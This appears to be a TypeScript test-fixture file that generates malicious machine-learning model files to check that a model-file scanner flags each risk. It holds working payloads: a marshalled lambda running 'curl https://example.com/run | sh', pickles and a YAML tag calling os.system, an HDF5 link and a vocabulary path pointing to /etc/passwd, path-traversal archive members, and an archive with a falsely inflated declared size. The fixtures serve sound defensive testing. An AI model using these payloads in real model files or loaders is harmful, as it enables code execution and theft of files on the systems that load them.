import { gzipSync } from 'node:zlib';
import { File, ready } from 'h5wasm';
import { mib } from '../../src/clinic/evidence/files/bytes.ts';
import type { RiskId } from '../../src/clinic/knowledge/risks.ts';
import { healthyMembers, tarOf, zipOf } from './support.ts';

/** A file that does harm when it is loaded, and what must be told of it. */
export interface HostileFile {
	readonly name: string;
	readonly content: Uint8Array | string;
	readonly risk: RiskId;
	/** What is told of the place must hold this. */
	readonly quote: string;
}

/** `marshal.dumps` of Python 3.11: lambda x: __import__("os").system("curl https://example.com/run | sh") or x */
export const evilCode =
	'4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3P6IWN1cmwgaHR0cHM6Ly9leGFtcGxlLmNvbS9ydW4gfCBzaCkC2gpfX2ltcG9ydF9f2gZzeXN0ZW0pAdoBeHMBAAAAIPoHPHN0ZGluPvoIPGxhbWJkYT5yCAAAAAIAAABzIgAAAIAAjUqQdNEMHNQMHNcMI9IMI9AkR9EMSNQMSNAMTchBgADzAAAAAA==';

/** `pickle.dumps` of what calls `os.system("id")`, by protocol. */
export const evilPickles: Readonly<Record<string, Uint8Array>> = {
	'0': fromBase64('Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg=='),
	'2': fromBase64('gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=='),
	'4': fromBase64('gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='),
};

/** `pickle.dumps([1, 2])`, protocol 4. */
export const harmlessPickle = fromBase64('gASVCQAAAAAAAABdlChLAUsCZS4=');

function fromBase64(text: string): Uint8Array {
	return new Uint8Array(Buffer.from(text, 'base64'));
}

export function bytesOf(...parts: readonly (Uint8Array | string)[]): Uint8Array {
	return new Uint8Array(Buffer.concat(parts.map((part) => Buffer.from(part))));
}

/** A model of one layer that holds another: a wrapper, a nested model. */
export function around(inner: object): string {
	return JSON.stringify({
		module: 'keras',
		class_name: 'Sequential',
		config: {
			name: 'sequential',
			layers: [
				{
					module: 'keras.layers',
					class_name: 'TimeDistributed',
					config: { name: 'outer', layer: inner },
				},
			],
		},
	});
}

/** A model of one layer. */
function ofOne(layer: object): string {
	return JSON.stringify({
		module: 'keras',
		class_name: 'Sequential',
		config: { name: 'sequential', layers: [layer] },
	});
}

/** A model within a model within a model. */
function deep(layer: object): string {
	const model = (inner: object) => ({
		module: 'keras',
		class_name: 'Functional',
		config: { name: 'nested', layers: [inner] },
	});
	return ofOne(model(model(layer)));
}

/** An array of objects as `numpy.save` writes it; what lies behind the header is a pickle. */
export function objectArray(pickle: Uint8Array, descr = "'|O'"): Uint8Array {
	const header = `{'descr': ${descr}, 'fortran_order': False, 'shape': (1,), }`.padEnd(117);
	return bytesOf(Uint8Array.of(0x93), 'NUMPY', Uint8Array.of(1, 0, 118, 0), `${header}\n`, pickle);
}

/** `field`: a field of Protocol Buffers that holds a text or a message. */
export function field(number: number, content: string | Uint8Array): Uint8Array {
	const bytes = typeof content === 'string' ? new TextEncoder().encode(content) : content;
	return Uint8Array.of((number << 3) | 2, bytes.length, ...bytes);
}

/** A SavedModel whose graph holds one operation. */
export function savedModelWith(operation: string): Uint8Array {
	const node = bytesOf(field(1, 'x'), field(2, operation));
	return bytesOf(Uint8Array.of(8, 1), field(2, field(2, field(1, node))));
}

const lambdaOfKeras3 = {
	module: 'keras.layers',
	class_name: 'Lambda',
	config: {
		name: 'lambda',
		function: {
			class_name: '__lambda__',
			config: { code: evilCode, defaults: null, closure: null },
		},
	},
};
const lambdaOfKeras2 = {
	class_name: 'Lambda',
	config: { name: 'lambda', function: [evilCode, null, null], function_type: 'lambda' },
};
const layer = (module: string, className: string, config: object | string) => ({
	module,
	class_name: className,
	config,
	registered_name: null,
});
const activation = (called: object) =>
	layer('keras.layers', 'Dense', { name: 'dense', units: 1, activation: called });

/** Configurations by their name: the same in a `.keras` and in an `.h5`. */
const configurations: readonly {
	readonly name: string;
	readonly config: string;
	readonly risk: RiskId;
	readonly quote: string;
}[] = [
	{ name: 'lambda', config: ofOne(lambdaOfKeras3), risk: 'lambda-bytecode', quote: 'system' },
	{
		name: 'lambda-of-keras-2',
		config: ofOne(lambdaOfKeras2),
		risk: 'lambda-bytecode',
		quote: 'system',
	},
	{
		name: 'lambda-in-wrapper',
		config: around(lambdaOfKeras3),
		risk: 'lambda-bytecode',
		quote: 'system',
	},
	{
		name: 'lambda-in-nested-models',
		config: deep(lambdaOfKeras3),
		risk: 'lambda-bytecode',
		quote: 'system',
	},
	{
		name: 'lambda-of-source',
		config: ofOne({ class_name: 'Lambda', config: { name: 'l', function: 'lambda x: eval("x")' } }),
		risk: 'lambda-source',
		quote: 'eval',
	},
	{
		name: 'module-outside',
		config: ofOne(layer('os', 'system', { command: 'id' })),
		risk: 'module-outside-keras',
		quote: 'os.system',
	},
	{
		name: 'module-outside-in-argument',
		config: deep(activation(layer('subprocess', 'function', 'run'))),
		risk: 'module-outside-keras',
		quote: 'subprocess.run',
	},
	{
		name: 'function-of-keras',
		config: ofOne(activation(layer('keras.utils', 'function', 'get_file'))),
		risk: 'function-of-keras',
		quote: 'keras.utils.get_file',
	},
	{
		name: 'unsafe-mode',
		config: ofOne(activation(layer('keras.config', 'function', 'enable_unsafe_deserialization'))),
		risk: 'unsafe-mode-enabled',
		quote: 'enable_unsafe_deserialization',
	},
	{
		name: 'torch-module',
		config: deep(layer('keras.layers', 'TorchModuleWrapper', { name: 't', module: 'gAR9lC4=' })),
		risk: 'torch-module',
		quote: 'TorchModuleWrapper',
	},
	{
		name: 'saved-model-layer',
		config: ofOne(layer('keras.layers', 'TFSMLayer', { name: 't', filepath: '/tmp/evil' })),
		risk: 'saved-model-layer',
		quote: '/tmp/evil',
	},
	{
		name: 'vocabulary-path',
		config: ofOne(layer('keras.layers', 'StringLookup', { name: 's', vocabulary: '/etc/passwd' })),
		risk: 'vocabulary-path',
		quote: '/etc/passwd',
	},
	{
		name: 'path-in-layer-name',
		config: ofOne(layer('keras.layers', 'Dense', { name: '../../evil', units: 1 })),
		risk: 'path-in-layer-name',
		quote: '../../evil',
	},
];

async function hdf5Of(fill: (file: File) => void): Promise<Uint8Array> {
	const { FS } = await ready;
	const file = new File('/hostile.h5', 'w');
	fill(file);
	file.close();
	const bytes = FS.readFile('/hostile.h5').slice();
	FS.unlink('/hostile.h5');
	return bytes;
}

/** The whole model of an `.h5` without weights. */
function wholeModel(config: string): Promise<Uint8Array> {
	return hdf5Of((file) => {
		file.create_attribute('model_config', config);
		file.create_attribute('keras_version', '3.8.0');
		file.create_attribute('backend', 'tensorflow');
		file.create_group('model_weights').create_attribute('keras_version', '3.8.0');
	});
}

/** Weights of which one is a link into another file. */
export function linkedWeights(): Promise<Uint8Array> {
	return hdf5Of((file) => {
		const group = file.create_group('layers').create_group('dense').create_group('vars');
		group.create_dataset({ name: '0', data: new Float32Array(2), shape: [2] });
		group.create_external_link('/etc/passwd', '/x', '1');
	});
}

/** Two members of one name: programs differ in which they read. */
async function withTwins(members: Readonly<Record<string, Uint8Array | string>>) {
	const archive = Buffer.from(
		await zipOf({ ...members, 'config.jsoX': members['config.json'] ?? '' }),
	);
	for (let at = archive.indexOf('config.jsoX'); at !== -1; at = archive.indexOf('config.jsoX')) {
		archive.write('config.json', at);
	}
	return new Uint8Array(archive);
}

/** The archive with another unpacked size of one member in its directory. */
export function declaring(archive: Uint8Array, member: string, bytes: number): Uint8Array {
	const changed = archive.slice();
	// The directory's entry, where the size stands before the name.
	const entry = Buffer.from(changed.buffer).lastIndexOf(member) - 46;
	new DataView(changed.buffer).setUint32(entry + 24, bytes, true);
	return changed;
}

/** Files that do harm, one a kind and container. The names tell what they are to every scanner. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
	const metadata = { keras_version: '3.8.0', date_saved: '2025-01-07@12:00:00' };
	const healthy: Record<string, Uint8Array | string> = {
		...healthyMembers(),
		'metadata.json': JSON.stringify(metadata),
	};
	const files: HostileFile[] = [];
	const add = (name: string, content: HostileFile['content'], risk: RiskId, quote: string) =>
		files.push({ name, content, risk, quote });
	for (const { name, config, risk, quote } of configurations) {
		add(`${name}.keras`, await zipOf({ ...healthy, 'config.json': config }), risk, quote);
		add(`${name}.h5`, await wholeModel(config), risk, quote);
	}
	const lambda = await zipOf({ ...healthy, 'config.json': ofOne(lambdaOfKeras3) });
	add('lambda.json', ofOne(lambdaOfKeras3), 'lambda-bytecode', 'system');
	add('lambda-in-archive.zip', await zipOf({ 'model.keras': lambda }), 'lambda-bytecode', 'system');
	add(
		'lambda-in-archives.zip',
		await zipOf({ 'inner.zip': await zipOf({ 'model.keras': lambda }) }),
		'lambda-bytecode',
		'system',
	);
	for (const [protocol, pickle] of Object.entries(evilPickles)) {
		add(`protocol-${protocol}.pkl`, pickle, 'pickle', 'posix.system');
	}
	const evil = evilPickles['4'] ?? harmlessPickle;
	add('pickle-named.h5', evil, 'pickle', 'posix.system');
	add('pickle-named.keras', evil, 'pickle', 'posix.system');
	add('behind-another.pkl', bytesOf(harmlessPickle, evil), 'pickle', 'posix.system');
	add(
		'behind-another-unmarked.pkl',
		bytesOf(harmlessPickle, evilPickles['0'] ?? ''),
		'pickle',
		'posix.system',
	);
	add('objects.npy', objectArray(evil), 'pickled-array', 'posix.system');
	add('objects.npz', await zipOf({ 'a.npy': objectArray(evil) }), 'pickled-array', 'posix.system');
	add(
		'objects-in-fields.npy',
		objectArray(evil, "[('a', '<f4'), ('b', '|O')]"),
		'pickled-array',
		'posix.system',
	);
	const { 'model.weights.h5': _, ...unweighted } = healthy;
	const weighted = (weights: Uint8Array) => zipOf({ ...unweighted, 'model.weights.npz': weights });
	const npz = await zipOf({ 'dense.npy': objectArray(evil) });
	add('weights-of-objects.keras', await weighted(npz), 'pickled-weights', 'posix.system');
	add('weights-of-pickle.keras', await weighted(evil), 'pickled-weights', 'posix.system');
	add('linked.weights.h5', await linkedWeights(), 'hdf5-outside', 'layers/dense/vars/1');
	add(
		'linked.keras',
		await zipOf({ ...healthy, 'model.weights.h5': await linkedWeights() }),
		'hdf5-outside',
		'layers/dense/vars/1',
	);
	add('path.keras', await zipOf({ ...healthy, '../../evil.txt': 'x' }), 'archive-path', 'evil.txt');
	add(
		'path.zip',
		await zipOf({ 'a.pkl': evil, '../../evil.txt': 'x' }),
		'archive-path',
		'evil.txt',
	);
	const tar = tarOf({ 'a.pkl': evil, '../../evil.txt': bytesOf('x') });
	add('path.tar', tar, 'archive-path', 'evil.txt');
	add('path.tar.gz', gzipSync(tar), 'archive-path', 'evil.txt');
	add('twins.keras', await withTwins(healthy), 'archive-duplicate', 'config.json');
	add('program.keras', await zipOf({ ...healthy, 'run.py': 'x' }), 'archive-program', 'run.py');
	add(
		'pickle-inside.keras',
		await zipOf({ ...healthy, 'a.pkl': evil }),
		'archive-program',
		'a.pkl',
	);
	const words = { ...healthy, 'assets/dense/x.txt': 'x'.repeat(99) };
	const declared = declaring(await zipOf(words, { level: 6 }), 'assets/dense/x.txt', 300 * mib);
	add('bomb.keras', declared, 'archive-declared-size', `${300 * mib}`);
	for (const operation of ['PyFunc', 'EagerPyFunc', 'ReadFile', 'WriteFile']) {
		const name = `${operation}/saved_model.pb`;
		add(name, savedModelWith(operation), 'graph-operation', operation);
	}
	add(
		'called.yaml',
		'class_name: Sequential\nconfig:\n  layers: []\n  x: !!python/object/apply:os.system [id]\n',
		'yaml-object',
		'os.system',
	);
	return files;
}
